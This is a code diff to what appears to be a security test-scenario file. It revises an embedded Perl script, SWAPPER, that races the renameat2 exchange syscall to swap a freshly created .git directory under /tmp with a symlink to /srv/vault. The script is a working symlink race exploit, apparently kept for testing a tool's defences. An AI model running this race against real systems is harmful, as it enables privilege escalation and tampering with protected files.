@@ -135,14 +135,15 @@ const S2 = scenes('S2', 'own', {
 });
 
 /** S3: scratch directories, and what programs read in them. */
-export const SWAPPER = `use strict; my $victim = "/srv/vault";
-# As soon as a directory below a scratch directory is mine, it and a link to root's take turns.
-my $n = 316; $n = 276 if (POSIX::uname())[4] ne "x86_64"; use POSIX ();
+const SWAPPER = `use strict; use POSIX ();
+# As soon as git has made the repository in a scratch directory, it and a link to root's vault take turns.
+my $n = (POSIX::uname())[4] eq "x86_64" ? 316 : 276;
 while (1) {
-  for my $dir (glob("/tmp/reflake-*/work /tmp/reflake-*/work/.git")) {
-    next unless -w $dir && -d $dir;
-    my $link = "$dir.trap"; symlink($victim, $link);
-    for (1 .. 20000) { my ($a, $b) = ("$dir", "$link"); last if syscall($n, -100, $a, -100, $b, 2) != 0; }
+  opendir(my $tmp, "/tmp") or die; my @works = map { "/tmp/$_/work" } grep { /^reflake-/ } readdir $tmp; closedir $tmp;
+  for my $work (@works) {
+    my ($git, $trap) = ("$work/.git", "$work/trap");
+    next unless -d "$git/objects/info" && symlink("/srv/vault", $trap);
+    for (1 .. 200000) { my ($a, $b) = ($git, $trap); last if syscall($n, -100, $a, -100, $b, 2) != 0 }
   }
 }
 `;
